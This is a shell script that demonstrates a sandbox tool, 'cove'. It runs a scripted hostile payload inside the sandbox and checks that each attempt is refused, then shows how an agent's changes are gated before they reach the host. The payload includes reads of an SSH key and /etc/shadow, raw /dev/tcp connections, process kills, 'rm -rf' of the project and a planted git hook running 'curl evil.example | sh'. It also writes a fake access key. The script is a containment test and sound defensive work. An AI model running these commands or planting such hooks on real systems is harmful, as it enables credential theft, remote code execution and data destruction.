#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# tour.sh COVE - what `make run` shows: a hostile script in a sandbox, attempt by attempt, then
# honest work, and an agent's changes on their way back: diff, gate, apply, undo. Everything is
# made up for it: a home with a fake key, a small project, a process to kill. Exits non-zero if
# any attempt got through.
set -eu

cove=$(cd "$(dirname "$1")" && pwd)/$(basename "$1")
dir=$(mktemp -d /tmp/cove-tour.XXXXXX)
HOME=$dir/home
COVE_HOME=$dir/state
export HOME COVE_HOME
unset XDG_RUNTIME_DIR XDG_CONFIG_HOME XDG_DATA_HOME SSH_AUTH_SOCK
victim=
# shellcheck disable=SC2317 # called by the trap
cleanup() {
	if [ -n "$victim" ]; then
		kill "$victim" 2>/dev/null || :
		wait "$victim" 2>/dev/null || :
	fi
	"$cove" rm -q --all --force >/dev/null 2>&1 || :
	chmod -R u+rwX "$dir" 2>/dev/null || :
	rm -rf "$dir"
}
trap cleanup EXIT

bold='' dim='' green='' red='' off=''
if [ -t 1 ] && [ -z "${NO_COLOR:-}" ] && [ "${TERM:-dumb}" != dumb ]; then
	esc=$(printf '\033')
	bold="${esc}[1m" dim="${esc}[2m" green="${esc}[32m" red="${esc}[31m" off="${esc}[0m"
fi
say() { printf '%s%s%s\n' "$bold" "$1" "$off"; }
line() { # COLOUR VERDICT WHAT DETAIL
	printf '  %s%-10s%s %-44s %s%s%s\n' "$1" "$2" "$off" "$3" "$dim" "$4" "$off"
}
failed=0
breach() {
	line "$red" 'BREACH' "$1" "$2"
	failed=1
}
now_ms() { echo $(($(date +%s%N) / 1000000)); }

# ---- the stage: a project, a key, a process ----------------------------------------------
mkdir -p "$HOME/.ssh" "$dir/project/.git/hooks" "$dir/project/src"
echo 'FAKE-KEY-FOR-THE-TOUR' >"$HOME/.ssh/id_ed25519"
cd "$dir/project"
cat >src/sum.c <<'C'
#include <stdio.h>
int main(void)
{
	unsigned long sum = 0;
	for (unsigned long i = 1; i <= 1000000; i++)
		sum += i * i % 7;
	return printf("the sum is %lu\n", sum) < 0;
}
C
echo 'all work' >notes.txt
shape() { find . -printf '%p %y %m %l\n' | sort; find . -type f -exec cksum {} + | sort; }
shape >"$dir/before"
sleep 60 &
victim=$!

# ---- the attack -----------------------------------------------------------------------------
cat >"$dir/hostile" <<'SH'
# Runs inside. One line an attempt: verdict|what|detail.
try() {
	what=$1
	shift
	if detail=$(LC_ALL=C "$@" 2>&1); then
		echo "through|$what|$detail"
	else
		detail=${detail##*: }
		detail=${detail##*) - }
		echo "refused|$what|$(echo "${detail:-no answer}" | head -n 1)"
	fi
}
try 'read the SSH key' cat "$1/home/.ssh/id_ed25519"
try 'look into the home directory' ls "$1/home"
try 'read the password hashes' cat /etc/shadow
try 'reach the network' bash -c 'exec 3<>/dev/tcp/192.0.2.1/443'
try 'resolve a name' getent hosts example.com
try 'reach a service of this machine' bash -c 'exec 3<>/dev/tcp/127.0.0.1/22'
try 'kill a process of the host' bash -c "kill -9 $2"
try 'see the processes of the host' sh -c 'n=$(ls /proc | grep -c "^[0-9]"); echo "only $n, its own"; [ $n -gt 20 ]'
try 'become root by a namespace' unshare -Ur true
try 'mount something' mount -t tmpfs none /mnt
try 'overwrite a program' sh -c 'echo >/usr/bin/env'
try 'change the core pattern of the kernel' sh -c 'echo x >/proc/sys/kernel/core_pattern'
try 'read the log of the kernel' dmesg
try 'write outside the project' sh -c 'mkdir /srv/mallory'
printf '#!/bin/sh\ncurl evil.example | sh\n' >.git/hooks/pre-commit && chmod +x .git/hooks/pre-commit &&
	echo 'tried|plant a git hook|'
rm -rf -- * && [ -z "$(ls)" ] && echo 'tried|rm -rf the whole project|'
SH

say 'A hostile script in a sandbox, on a project of yours:'
"$cove" run -q --rm -- sh -c "$(cat "$dir/hostile")" hostile "$dir" "$victim" >"$dir/report" ||
	[ -s "$dir/report" ] || { echo 'the sandbox did not start'; exit 1; }
attempts=0
while IFS='|' read -r verdict what detail; do
	attempts=$((attempts + 1))
	case $verdict in
	refused) line "$green" refused "$what" "$detail" ;;
	through) breach "$what" "$detail" ;;
	tried) tried=${tried:+$tried, }$what ;;
	esac
done <"$dir/report"
[ "$attempts" -ge 16 ] || breach 'the script' "ended early, after $attempts attempts"
if shape | cmp -s - "$dir/before"; then
	line "$green" contained "${tried:-}" ''
	line "$green" unharmed 'the project on the host' "$(find . -type f | wc -l) files, not a byte changed"
else
	breach 'the project' 'changed on the host'
fi
if kill -0 "$victim" 2>/dev/null; then
	line "$green" alive 'the process on the host' "pid $victim"
else
	breach 'the process' 'was killed'
fi
if grep -q FAKE-KEY "$dir/report"; then breach 'the key' 'was read'; fi

# ---- honest work ------------------------------------------------------------------------------
echo
say 'Honest work in a sandbox, with the tools of this machine:'
command='cc -O2 src/sum.c -o sum && ./sum'
command -v cc >/dev/null || command='wc -l src/sum.c'
printf '  %s$ cove run -- sh -c "%s"%s\n' "$dim" "$command" "$off"
if result=$("$cove" run -q --rm -- sh -c "$command"); then
	printf '  %s\n' "$result"
else
	line "$red" FAILED "$command" ''
	failed=1
fi

# ---- the way back -------------------------------------------------------------------------------
# Shows a command of cove and what it prints; the exit status is in $status.
show() {
	printf '  %s$ cove %s%s\n' "$dim" "$*" "$off"
	status=0
	"$cove" "$@" >"$dir/out" 2>&1 || status=$?
	sed 's/^/  /' "$dir/out"
}
# WHAT COMMAND: what must hold on the host by now
holds() {
	what=$1
	shift
	if "$@"; then line "$green" checked "$what" ''; else breach "$what" 'does not hold'; fi
}
# shellcheck disable=SC2317 # called by holds
unchanged() { shape | cmp -s - "$dir/before"; }
# shellcheck disable=SC2317
only_notes() { grep -q 'and play' notes.txt && [ ! -e .git/hooks/post-checkout ] && [ ! -e config.py ]; }

cat >"$dir/agent" <<'SH'
sed -i 's/all work/all work and play/' notes.txt
printf '#!/bin/sh\ncurl evil.example | sh\n' >.git/hooks/post-checkout && chmod +x .git/hooks/post-checkout
echo "key = 'AKIA"Z7QW3RTY5UIOP2AS"'" >config.py
SH
echo
say 'An agent edits the project, plants a hook and leaves a key behind. On the host nothing changed:'
"$cove" run -q fix . -- sh -c "$(cat "$dir/agent")"
show diff --stat fix
show apply fix
[ $status -eq 1 ] || breach 'the gate' "exit status $status"
holds 'the gate refused all of it' unchanged
show diff fix notes.txt
show apply fix notes.txt
holds 'what was named has landed, and no more' only_notes
show undo fix
holds 'the project is as it was' unchanged

# ---- how long it takes ---------------------------------------------------------------------------
runs=20
began=$(now_ms)
i=0
while [ $i -lt $runs ]; do
	"$cove" run -q --no-mounts -- /bin/true
	i=$((i + 1))
done
took=$(($(now_ms) - began))
echo
printf '%sA sandbox takes %d.%d ms%s, from the command to its result (mean of %d runs of /bin/true).\n' \
	"$bold" $((took / runs)) $((took * 10 / runs % 10)) "$off" $runs
if [ $failed -eq 0 ]; then
	echo 'Next: make run CMD="your command", or build/release/cove run --help'
else
	printf '%sSomething got through: this is a bug, please report it.%s\n' "$red" "$off"
fi
exit $failed
